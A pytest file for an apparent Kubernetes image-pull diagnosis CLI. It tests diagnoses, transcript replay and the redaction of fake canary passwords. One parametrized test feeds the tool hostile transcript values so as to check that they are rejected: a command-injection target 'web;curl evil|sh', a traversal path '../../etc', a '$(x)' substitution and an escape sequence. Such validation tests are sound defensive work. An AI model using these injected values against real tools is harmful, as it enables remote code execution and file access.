"""`why` on a dump: what is named is diagnosed in full, and without a name the failures are listed."""

import base64
import json
from pathlib import Path

import pytest

from bot.cli import dump, main, why
from bot.cli.asking import Asked, Output, Shape
from bot.demo import story
from bot.errors import ClusterUnreadable, TargetNotFound, UsageError
from tests.fakes import objects


DUMP = Asked(source=story.RECORDINGS)


def test_why_diagnoses_what_is_named(capsys: pytest.CaptureFixture[str]) -> None:
    """One pod, in full."""
    assert why.run(DUMP, ["shop/api-59fffb898-dbsxn"], Shape()) == 0
    out = capsys.readouterr().out
    assert "pull-secret-not-attached" in out
    assert "What to do" in out


def test_why_of_two_things_tells_both(capsys: pytest.CaptureFixture[str]) -> None:
    """Each target is diagnosed, in one answer."""
    words = ["deploy/checkout", "media/player-7f87646ddd-9z6nv"]
    assert why.run(DUMP, words, Shape(Output.JSON, exit_code=True)) == 1
    causes = {each["verdict"]["cause"] for each in json.loads(capsys.readouterr().out)["failures"]}
    assert causes == {"wrong-tag", "wrong-architecture"}


def test_why_without_a_name_lists_the_namespace(capsys: pytest.CaptureFixture[str]) -> None:
    """Several causes are a list, a single one is told in full."""
    assert why.run(Asked(source=story.RECORDINGS, namespaces=("media",)), [], Shape()) == 0
    listed = capsys.readouterr().out
    assert "imagepull why media/" in listed
    assert "Proof" not in listed
    assert why.run(Asked(source=story.RECORDINGS, namespaces=("web",)), [], Shape()) == 0
    assert "Proof" in capsys.readouterr().out


def test_why_of_a_healthy_namespace_says_so(capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing wrong is an answer, and no failure for a script."""
    assert why.run(Asked(source=story.RECORDINGS, namespaces=("video",)), [], Shape(exit_code=True)) == 0
    assert capsys.readouterr().out


def test_why_of_a_namespace_that_is_not_there_is_no_good_news() -> None:
    """A typing mistake in a script must not pass for health."""
    with pytest.raises(TargetNotFound, match="no namespace 'sohp'"):
        why.run(Asked(source=story.RECORDINGS, namespaces=("sohp",)), [], Shape())


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        (Asked(source=story.RECORDINGS, selector="app=web"), ["web"]),
        (Asked(source=story.RECORDINGS, everywhere=True), ["web"]),
        (Asked(source=story.RECORDINGS, namespaces=("shop",)), ["pay/web"]),
    ],
)
def test_why_refuses_two_answers_to_where(asked: Asked, words: list[str]) -> None:
    """A target and something else that says where contradict each other."""
    with pytest.raises(UsageError):
        why.run(asked, words, Shape())


def test_why_says_when_nothing_has_the_name() -> None:
    """A name that is nowhere."""
    with pytest.raises(TargetNotFound):
        why.run(DUMP, ["no-such-pod"], Shape())


def _proved(
    capsys: pytest.CaptureFixture[str], place: Path, asked: Asked, words: list[str], code: int = 0
) -> tuple[str, str]:
    """What a call says in words, and the transcript that it prints, kept in a file."""
    assert why.run(asked, words, Shape(prove=True, exit_code=bool(code))) == code
    caught = capsys.readouterr()
    assert json.loads(caught.out)["schema"] == "imagepull-transcript/v1"
    place.write_text(caught.out)
    return caught.err, caught.out


def _json(capsys: pytest.CaptureFixture[str], asked: Asked, *words: str) -> dict[str, object]:
    why.run(asked, words, Shape(Output.JSON))
    found: dict[str, object] = json.loads(capsys.readouterr().out)
    return found


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        (DUMP, ["deploy/checkout", "media/player-7f87646ddd-9z6nv"]),
        (DUMP, []),
        (Asked(source=story.RECORDINGS, namespaces=("shop",)), []),
        (Asked(source=story.RECORDINGS, namespaces=("media",)), ["player-7f87646ddd-9z6nv"]),
        (Asked(source=story.RECORDINGS, everywhere=True), []),
        (Asked(source=story.RECORDINGS, selector="app=player"), []),
        (Asked(source=story.RECORDINGS, stalled_after="1m500ms"), []),
        (Asked(source=story.RECORDINGS, namespaces=("video",)), []),
    ],
)
def test_why_of_a_transcript_answers_what_was_asked(
    asked: Asked, words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same words, save where to look on, whatever was named or not."""
    place = tmp_path / "t.json"
    said, _ = _proved(capsys, place, asked, words)
    assert why.run(Asked(source=place), [], Shape()) == 0
    again = capsys.readouterr().out.replace(str(place), str(story.RECORDINGS))
    assert "".join(again.split()) in "".join(said.split())


def test_why_of_a_transcript_gives_the_same_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """To a program, too."""
    place = tmp_path / "t.json"
    _proved(capsys, place, DUMP, ["deploy/checkout"])
    assert _json(capsys, Asked(source=place)) == _json(capsys, DUMP, "deploy/checkout")


def test_why_of_a_transcript_finds_what_it_is_about(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A target that it holds may be named again; of another one nothing is known."""
    place = tmp_path / "t.json"
    _proved(capsys, place, Asked(source=story.RECORDINGS, namespaces=("media",)), ["player-7f87646ddd-9z6nv"])
    assert why.run(Asked(source=place), ["media/player-7f87646ddd-9z6nv"], Shape()) == 0
    with pytest.raises(ClusterUnreadable, match="not in the transcript"):
        why.run(Asked(source=place), ["media/nobody"], Shape())


def test_why_proves_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A transcript is the proof already, and says itself what now is; a dump is made of clusters."""
    place = tmp_path / "t.json"
    _proved(capsys, place, DUMP, ["deploy/checkout"], code=1)
    with pytest.raises(UsageError, match="proof already"):
        why.run(Asked(source=place), [], Shape(prove=True))
    with pytest.raises(UsageError, match="what now is"):
        why.run(Asked(source=place, at="2026-11-22T09:00:00Z"), [], Shape())
    with pytest.raises(UsageError, match="no dump"):
        dump.run(Asked(source=place), tmp_path / "out")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_why_reads_a_transcript_that_another_shell_wrote(
    encoding: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """PowerShell's > writes UTF-16; somebody may have sorted the keys."""
    place = tmp_path / "t.json"
    _, text = _proved(capsys, place, DUMP, ["deploy/checkout"])
    told = _json(capsys, Asked(source=place))
    place.write_text(json.dumps(json.loads(text), sort_keys=True), encoding=encoding)
    assert _json(capsys, Asked(source=place)) == told


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("schema", "imagepull-transcript/v2"),
        ("asked", {"targets": ["web;curl evil|sh"]}),
        ("asked", {"targets": ["web"] * 1000}),
        ("asked", {"namespaces": ["../../etc"]}),
        ("asked", {"stalled_after": "\x1b[31m"}),
        ("asked", {"selector": "$(x)"}),
        ("asked", {"targets": ["web"], "selector": "app=web"}),
        ("asked", []),
        ("cluster", {"name": 7}),
        ("cluster", {"name": "x", "questions": [{"asked": "look", "answer": {}}]}),
        ("cluster", {"name": "x", "questions": [{"asked": "rm", "answer": {}}]}),
        ("registry", {"questions": [{"asked": "base", "answer": 1}]}),
        ("registry", {"exchanges": 1}),
    ],
)
def test_why_refuses_a_transcript_that_is_off(
    part: str, value: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A line and a hint, and never a traceback, whatever somebody mailed."""
    place = tmp_path / "t.json"
    _, text = _proved(capsys, place, DUMP, ["deploy/checkout"])
    place.write_text(json.dumps(json.loads(text) | {part: value}))
    assert main.run(["why", "--from", str(place)]) == 2
    caught = capsys.readouterr()
    assert not caught.out
    assert len(caught.err.splitlines()) == 2
    assert "\x1b" not in caught.err


CANARY = "c4nary-Pa55word"
BASIC = base64.b64encode(f"canary-user:{CANARY}".encode()).decode()
IMAGE = "registry.example/shop/web:1.5"


def _with_canaries(folder: Path) -> None:
    """A dump that holds a password wherever somebody may have put one."""
    message = f'failed to pull and unpack image "{IMAGE}": failed to resolve reference "{IMAGE}": {IMAGE}: not found'
    odd = f"GET https://bob:{CANARY}x@registry.example/: bad {CANARY}"
    exchange = {"identity": "anonymous", "request": {"method": "GET", "url": "https://registry.example/v2/"}}
    body = f'{{"token": "{CANARY}y", "errors": [{{"code": "DENIED", "message": "no {CANARY} {BASIC}"}}]}}'
    headers = {"Set-Cookie": CANARY, "Location": f"https://cdn.example/?X-Amz-Signature={CANARY}z"}
    auths = {"auths": {"registry.example": {"auth": BASIC}}}
    content = base64.b64encode(json.dumps(auths).encode()).decode()
    items = [
        objects.pod(
            state=objects.waiting("ErrImagePull", message),
            spec={"containers": [{"name": "app", "image": IMAGE}], "imagePullSecrets": [{"name": "regcred"}]},
        ),
        objects.named(
            "Secret", "regcred", type="kubernetes.io/dockerconfigjson", data={".dockerconfigjson": content}
        ),
        objects.event("web-1", "Failed", odd),
    ]
    files = {
        "all.json": {"kind": "List", "items": items},
        "registry.json": {
            "exchanges": [exchange | {"response": {"status": 401, "headers": headers, "body": body}}]
        },
    }
    for name, told in files.items():
        (folder / name).write_text(json.dumps(told))
    (folder / "logs" / "shop" / "web-1").mkdir(parents=True)
    (folder / "logs" / "shop" / "web-1" / "app.log").write_text(f"password={CANARY}")


def test_why_proves_without_a_secret(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Not in messages, events, logs, Secrets or what a registry repeats."""
    _with_canaries(tmp_path)
    place = tmp_path.with_name("t.json")
    _, text = _proved(capsys, place, Asked(source=tmp_path), ["web-1"])
    assert "DENIED" in text
    for secret in (CANARY, BASIC, base64.b64encode(CANARY.encode()).decode()):
        assert secret not in text
    assert _json(capsys, Asked(source=place))["failures"]


def test_dump_of_a_dump_keeps_what_registries_said(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without a secret, and without what Secrets of other namespaces asked."""
    _with_canaries(tmp_path)
    told = json.loads((tmp_path / "registry.json").read_text())
    first = told["exchanges"][0]
    told["exchanges"] += [first | {"identity": f"secret:{name}/regcred"} for name in ("shop", "pay")]
    (tmp_path / "registry.json").write_text(json.dumps(told))
    out = tmp_path.with_name("safe")
    assert dump.run(Asked(source=tmp_path, namespaces=("shop",)), out) == 0
    written = (out / "registry.json").read_text()
    assert CANARY not in written
    assert [each["identity"] for each in json.loads(written)["exchanges"]] == [
        "anonymous",
        "secret:shop/regcred",
    ]
    assert not [name for name in out.rglob("*") if name.is_file() and CANARY in name.read_text()]
    capsys.readouterr()
    assert _json(capsys, Asked(source=out), "web-1")["failures"]
